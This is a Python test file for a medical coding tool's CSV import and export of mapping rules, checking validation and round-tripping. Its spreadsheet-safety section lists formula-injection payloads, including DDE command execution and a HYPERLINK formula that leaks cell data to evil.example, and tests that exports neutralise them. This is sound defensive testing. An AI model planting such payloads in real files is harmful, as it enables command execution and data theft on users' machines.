"""Mapping rules as CSV: what ``format_rules`` writes ``parse`` reads back; every bad line is reported
with its line number as an editor shows it and the column that is wrong."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from infobutton.mappings.csv_io import FIELDS, FORMULA_STARTS, LineError, format_rules, parse, parse_checked
from infobutton.mappings.validation import rule_and_errors
from infobutton.models import CodeSystem, Gender, MappingRule, Recipient, Scope, Topic

HEADER = ",".join(FIELDS) + "\n"
TOPICS = {
    "leukemia": Topic(id="leukemia", title="Leukemia", url="https://medlineplus.gov/leukemia.html", language="en"),
    "leucemia": Topic(
        id="leucemia", title="Leucemia", url="https://medlineplus.gov/spanish/leukemia.html", language="es"
    ),
    "oldtopic": Topic(
        id="oldtopic", title="Old", url="https://medlineplus.gov/old.html", language="en", status="withdrawn"
    ),
}

RULES = [
    MappingRule(CodeSystem.ICD10CM, "C91.00", "leukemia", Scope.EXACT, priority=5, reason="ALL, not in remission"),
    MappingRule(CodeSystem.ICD10CM, "C91", "leukemia", min_age=0.5, max_age=18, gender=Gender.FEMALE, reason='a, "b"'),
    MappingRule(CodeSystem.SNOMEDCT, "91857003", "leukemia", priority=-3, reason="línea\nzwei"),
]


def test_format_then_parse_gives_the_same_rules():
    text = format_rules(RULES)
    assert text.startswith(HEADER)
    rules, errors = parse(text)
    assert errors == []
    assert sorted(rules, key=repr) == sorted(RULES, key=repr)
    assert format_rules(rules) == text  # stable: exporting an import changes nothing


def test_a_byte_order_mark_from_a_spreadsheet_is_ignored():
    text = "\ufeff" + HEADER + "ICD-10-CM,C91.00,leukemia,exact,,,,,\n"
    rules, errors = parse(text)
    assert errors == [] and [r.code for r in rules] == ["C91.00"]
    checked, errors = parse_checked(text, TOPICS.get)
    assert errors == [] and checked == rules


def test_codes_are_normalised_and_systems_read_by_name_oid_or_uri():
    text = (
        "code_system,code,topic_id\n"
        "ICD-10-CM,c9100,leukemia\n"
        "2.16.840.1.113883.6.90,C91.1,leukemia\n"
        "http://snomed.info/sct,91857003,leukemia\n"
    )
    rules, errors = parse(text)
    assert errors == []
    assert [(r.code_system, r.code, r.scope) for r in rules] == [
        (CodeSystem.ICD10CM, "C91.00", Scope.DESCENDANTS),
        (CodeSystem.ICD10CM, "C91.1", Scope.DESCENDANTS),
        (CodeSystem.SNOMEDCT, "91857003", Scope.DESCENDANTS),
    ]


@pytest.mark.parametrize(
    "row, field, message",
    [
        ("XYZ,C91.00,leukemia,,,,,,", "code_system", ""),
        (",C91.00,leukemia,,,,,,", "code_system", "required"),
        ("ICD-10-CM,,leukemia,,,,,,", "code", "required"),
        ("ICD-10-CM,C91.00,,,,,,,", "topic_id", "required"),
        ("ICD-10-CM,C91.00,leukemia,below,,,,,", "scope", "must be exact or descendants"),
        ("ICD-10-CM,C91.00,leukemia,,high,,,,", "priority", "must be a whole number"),
        ("ICD-10-CM,C91.00,leukemia,,5000,,,,", "priority", "between -1000 and 1000"),
        ("ICD-10-CM,C91.00,leukemia,,,ten,,,", "min_age", "must be a number"),
        ("ICD-10-CM,C91.00,leukemia,,,,200,,", "max_age", "between 0 and 150"),
        ("ICD-10-CM,C91.00,leukemia,,,40,18,,", "max_age", "must be greater than min_age"),
        ("ICD-10-CM,C91.00,leukemia,,,,,X,", "gender", "must be F, M or UN"),
    ],
)
def test_a_bad_field_names_its_line_and_column(row, field, message):
    good = "ICD-10-CM,C91.00,leukemia,,,,,,\n"
    rules, errors = parse(HEADER + good + row + "\n" + good)
    assert len(rules) == 2  # the good lines around it still parse
    [error] = errors
    assert (error.line, error.field) == (3, field)
    assert message in error.message


def test_missing_required_columns_are_a_header_error():
    assert parse("code,topic_id\nC91.00,leukemia\n") == ([], [LineError(1, "header", "missing columns: code_system")])
    assert parse("") == ([], [LineError(1, "header", "missing columns: code, code_system, topic_id")])


def test_checked_parse_refuses_unknown_codes_and_unserved_topics_and_duplicates():
    text = HEADER + (
        "ICD-10-CM,C91.00,leukemia,,,,,,\n"  # line 2: good
        "ICD-10-CM,C99.99,leukemia,,,,,,\n"  # line 3: no such code
        "ICD-10-CM,C91.1,nosuchtopic,,,,,,\n"  # line 4
        "ICD-10-CM,C91.1,oldtopic,,,,,,\n"  # line 5: withdrawn
        "ICD-10-CM,C91.1,leucemia,,,,,,\n"  # line 6: the Spanish twin
        "ICD-10-CM,c9100,leukemia,,,,,,\n"  # line 7: line 2 again, spelled differently
        "ICD-10-CM,C91.1,leukemia" + "," * (len(FIELDS) - 3) + ",extra\n"  # line 8: more fields than the header
    )
    rules, errors = parse_checked(text, TOPICS.get)
    assert [r.code for r in rules] == ["C91.00"]
    assert [(e.line, e.field) for e in errors] == [
        (3, "code"),
        (4, "topic_id"),
        (5, "topic_id"),
        (6, "topic_id"),
        (7, "line"),
        (8, "line"),
    ]
    assert "C99.99 is not a valid ICD-10-CM code" in errors[0].message
    assert "withdrawn" in errors[2].message and "English" in errors[3].message
    assert errors[4].message == "duplicates the rule on line 2"


def test_line_numbers_count_lines_inside_quoted_fields():
    text = HEADER + 'ICD-10-CM,C91.00,leukemia,,,,,,"two\nlines"\nICD-10-CM,C91.00,leukemia,odd,,,,,\n'
    _, errors = parse(text)
    assert [(e.line, e.field) for e in errors] == [(4, "scope")]


# -- context limits ----------------------------------------------------------------------------

LIMITED = [
    MappingRule(
        CodeSystem.ICD10CM,
        "C91",
        "leukemia",
        audiences=(Recipient.PATIENT, Recipient.PAYOR),
        tasks=("MLREV", "OE"),
        settings=("AMB",),
        languages=("en", "es"),
        age_groups=("D000293", "D002648"),
        min_age=6,
        reason="every limit",
    ),
    MappingRule(CodeSystem.ICD10CM, "C91", "leukemia", audiences=(Recipient.PROVIDER,), reason="one limit"),
    MappingRule(CodeSystem.ICD10CM, "C91", "leukemia", reason="no limit"),
]


def test_context_limits_round_trip_as_space_separated_columns():
    text = format_rules(LIMITED)
    assert HEADER.strip().endswith(",reason,audience,task,setting,language,age_group")
    assert ",every limit,PAT PAYOR,MLREV OE,AMB,en es,D000293 D002648\n" in text
    assert ",no limit,,,,,\n" in text
    rules, errors = parse(text)
    assert errors == [] and sorted(rules, key=repr) == sorted(LIMITED, key=repr)
    assert format_rules(rules) == text
    checked, errors = parse_checked(text, TOPICS.get)  # three rules, not duplicates: the limits differ
    assert errors == [] and len(checked) == 3


def test_a_csv_from_before_the_limits_reads_as_rules_without_them():
    old = "code_system,code,topic_id,scope,priority,min_age,max_age,gender,reason\nICD-10-CM,C91,leukemia,,,,,,x\n"
    [rule], errors = parse(old)
    assert errors == [] and rule == MappingRule(CodeSystem.ICD10CM, "C91", "leukemia", reason="x")


def test_limits_are_read_in_any_case_with_commas_and_repeats_collapsed():
    text = "code_system,code,topic_id,audience,task,setting,language,age_group\n"
    text += 'ICD-10-CM,C91,leukemia,"prov, pat PROV",oe;MLrev,amb,EN,d000293 D000293\n'
    [rule], errors = parse(text)
    assert errors == []
    assert rule.audiences == (Recipient.PATIENT, Recipient.PROVIDER) and rule.tasks == ("MLREV", "OE")
    assert (rule.settings, rule.languages, rule.age_groups) == (("AMB",), ("en",), ("D000293",))


def test_the_same_limits_twice_is_a_duplicate_line():
    text = HEADER + "ICD-10-CM,C91,leukemia,,,,,,,PROV PAT\nICD-10-CM,C91,leukemia,,,,,,,pat prov\n"
    rules, errors = parse_checked(text, TOPICS.get)
    assert len(rules) == 1 and errors == [LineError(3, "line", "duplicates the rule on line 2")]


@pytest.mark.parametrize(
    "column, value, allowed",
    [
        ("audience", "PATIENT", "PAT, PROV or PAYOR"),
        ("task", "MEDLISTREV", "OE, LABOE, MEDOE"),
        ("setting", "ICU", "AMB, EMER, FLD"),
        ("language", "fr", "en or es"),
        ("age_group", "D999999", "D007231, D007223"),
    ],
)
def test_a_bad_limit_names_its_line_column_and_the_allowed_codes(column, value, allowed):
    text = f"code_system,code,topic_id,{column}\nICD-10-CM,C91,leukemia,\nICD-10-CM,C91,leukemia,{value}\n"
    rules, [error] = parse(text)
    assert len(rules) == 1 and (error.line, error.field) == (3, column)
    assert allowed in error.message and repr(value) in error.message


def test_an_age_group_outside_the_age_range_is_refused():
    text = "code_system,code,topic_id,min_age,max_age,age_group\n"
    text += "ICD-10-CM,C91,leukemia,0,18,D000293 D002648\n"  # both overlap 0-18: fine
    text += "ICD-10-CM,C91,leukemia,65,,D000293\n"  # adolescents are never 65
    rules, [error] = parse(text)
    assert [r.age_groups for r in rules] == [("D000293", "D002648")]
    assert (error.line, error.field) == (3, "age_group") and "cannot overlap" in error.message


# -- safe to open in a spreadsheet ----------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "'=already neutralised by hand",
    "''=two apostrophes",
]


def written_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_an_export_never_starts_a_cell_with_a_formula_character_and_imports_back_unchanged():
    rules = [
        MappingRule(CodeSystem.ICD10CM, "C91.00", "leukemia", priority=-5 - n, reason=reason)
        for n, reason in enumerate(FORMULAS)
    ]
    text = format_rules(rules)
    assert not [cell for cell in written_cells(text) if cell.startswith(FORMULA_STARTS)]
    assert "'=cmd|' /C calc'!A0" in written_cells(text) and "'-5" in written_cells(text)
    parsed, errors = parse(text)
    assert errors == [] and sorted(parsed, key=repr) == sorted(rules, key=repr)


def test_a_file_that_leads_a_cell_with_an_apostrophe_for_another_reason_keeps_it():
    rules, errors = parse(HEADER + "ICD-10-CM,C91.00,leukemia,exact,0,,,,'quoted' as written\n")
    assert errors == [] and rules[0].reason == "'quoted' as written"


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=200))
def test_any_reason_exports_safely_and_reads_back_the_same(reason):
    # as the API, the form and CSV store a rule: through the one validator (stripped, \n breaks)
    rule, errors = rule_and_errors({"code_system": "ICD-10-CM", "code": "C91.00", "topic_id": "x", "reason": reason})
    assert errors == [] and rule is not None and "\r" not in rule.reason
    text = format_rules([rule])
    assert not [cell for cell in written_cells(text) if cell.startswith(FORMULA_STARTS)]
    assert parse(text) == ([rule], [])


@pytest.mark.parametrize("reader", [parse, lambda text: parse_checked(text, TOPICS.get)])
def test_a_cell_too_long_for_the_csv_module_is_a_line_error(reader):
    long = "ICD-10-CM,C91.01,leukemia,exact,0,,,," + "x" * 131_073 + "\n"
    text = HEADER + "ICD-10-CM,C91.00,leukemia,exact,0,,,,fine\n" + long
    rules, errors = reader(text)
    assert [(e.line, e.field) for e in errors] == [(3, "line")]
    assert "field larger than field limit" in errors[0].message
